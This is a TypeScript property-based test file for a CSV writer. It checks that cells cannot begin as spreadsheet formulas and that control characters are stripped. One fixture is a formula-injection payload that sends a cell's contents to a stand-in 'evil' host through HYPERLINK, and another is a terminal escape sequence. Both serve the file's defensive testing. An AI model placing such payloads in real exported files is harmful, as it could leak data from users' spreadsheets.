import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type CsvCell, csvLine, formatCsv, parseCsv, recordsCsv } from '../../../core/base/csv.ts';

/**
 * How a program that separates cells by this sign reads a file: quotes count only where a cell
 * begins.
 */
function readWith(separator: string, text: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= text.length) {
    let cell = '';
    if (text[at] === '"') {
      at += 1;
      while (at < text.length && (text[at] !== '"' || text[at + 1] === '"')) {
        cell += text[at];
        at += text[at] === '"' ? 2 : 1;
      }
      at += 1;
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n')
      cell += text[at++];
    cells.push(cell);
    at += 1;
  }
  return cells;
}

/** The same by one that knows no quotes. */
const readPlainly = (separator: string, text: string): string[] =>
  text.split(new RegExp(`[\r\n${separator}]`));

const isFormula = (cell: string): boolean => /^[\s"\u200b]*[=+\-@＝＋－＠﹦﹢﹣﹫]/.test(cell);

const sign = fc.constantFrom(...'=+-@＝＋－＠﹦﹢﹣﹫;,\t\r\n" \'x1\u00a0\u3000\u001b\u0000');
const nasty = fc.string({ unit: sign, maxLength: 12 });
const cell: fc.Arbitrary<CsvCell> = fc.oneof(
  nasty,
  fc.string({ unit: 'binary' }),
  fc.constant(null),
);

test('no cell begins as a formula, whatever it holds and however the file is opened', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 3 }),
      (rows) => {
        const text = formatCsv(rows);
        for (const separator of [',', ';', '\t'])
          for (const each of readWith(separator, text)) expect(isFormula(each)).toBe(false);
        for (const separator of [';', '\t'])
          for (const each of readPlainly(separator, text)) expect(isFormula(each)).toBe(false);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what it looks for.
        expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      },
    ),
    { numRuns: 2_000 },
  );
});

test('what is read back is what was written, but for characters nobody can see', () => {
  fc.assert(
    fc.property(fc.array(nasty, { minLength: 2, maxLength: 4 }), (cells) => {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what it looks for.
      const seen = cells.map((text) => text.replace(/[\u0000\u001b]/g, '\ufffd'));
      expect(parseCsv(`a,b\r\n${csvLine(['x', ...cells])}`)[1]).toEqual(['x', ...seen]);
    }),
    { numRuns: 1_000 },
  );
});

describe('one by one', () => {
  test.each<[CsvCell, string]>([
    ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['x;=1+1', `"x;'=1+1"`],
    ['＝1+1', `'＝1+1`],
    ['-20% on shoes', `'-20% on shoes`],
    ['Shoes -20%', 'Shoes -20%'],
    ['2026-10-01', '2026-10-01'],
    ['120330000000000003', '120330000000000003'],
    ['act_1001', 'act_1001'],
    [-12.5, '-12.5'],
    [0, '0'],
    [null, ''],
    ['\u001b]0;title\u0007', `"\ufffd]0;title\ufffd"`],
  ])('%j', (given, written) => expect(csvLine([given])).toBe(`${written}\r\n`));
});

test('records have a column for every field that any of them has', () => {
  const records = [{ adName: '=1', spend: -1 }, {}, { spend: null, '=evil': 'x' }];
  expect(recordsCsv(records)).toBe("adName,spend,'=evil\r\n'=1,-1,\r\n,,\r\n,,x\r\n");
});

test('a long text takes no time', () => {
  const text = `${'\t'.repeat(200_000)}${' '.repeat(200_000)}${';"'.repeat(100_000)}`;
  expect(csvLine([text]).length).toBeGreaterThan(text.length);
});
